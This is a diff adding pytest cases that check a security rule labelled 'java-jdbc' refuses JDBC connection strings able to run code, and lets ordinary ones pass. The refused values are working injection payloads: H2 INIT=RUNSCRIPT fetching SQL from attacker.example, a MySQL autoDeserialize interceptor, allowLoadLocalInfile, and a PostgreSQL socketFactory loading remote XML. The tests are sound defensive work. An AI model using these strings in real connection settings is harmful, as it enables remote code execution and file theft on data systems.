@@ -909,3 +909,25 @@ def test_java_names_in_a_sentence_code_span_pass(edge):
                                    "x=`java.lang.Runtime`"])
 def test_java_names_resolved_are_refused(edge, value):
     assert rule_fired(edge, value, "java-class"), value
+
+
+# A JDBC URL runs what its parameters say when a data tool connects: H2's
+# INIT, MySQL's autoDeserialize and interceptors, PostgreSQL's factories.
+# A connection string with ordinary parameters passes.
+@pytest.mark.parametrize("value", [
+    "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://attacker.example/x.sql'",
+    "jdbc:mysql://attacker.example:3306/db?autoDeserialize=true&queryInterceptors=com.mysql.cj."
+    "jdbc.interceptors.ServerStatusDiffInterceptor",
+    "jdbc:mysql://x.example:3306/db?allowLoadLocalInfile=true",
+    "jdbc:postgresql://db.example.com/app?socketFactory=org.springframework.context.support."
+    "ClassPathXmlApplicationContext&socketFactoryArg=http://x.example/b.xml"])
+def test_jdbc_urls_that_run_code_are_refused(edge, value):
+    assert rule_fired(edge, value, "java-jdbc"), value
+
+
+@pytest.mark.parametrize("value", [
+    "jdbc:postgresql://db.internal:5432/analytics?sslmode=require",
+    "jdbc:mysql://db.example.com:3306/shop?useSSL=true&serverTimezone=UTC",
+    "jdbc:h2:mem:testdb;DB_CLOSE_DELAY=-1"])
+def test_ordinary_jdbc_urls_pass(edge, value):
+    assert not rule_fired(edge, value, "java-jdbc"), value
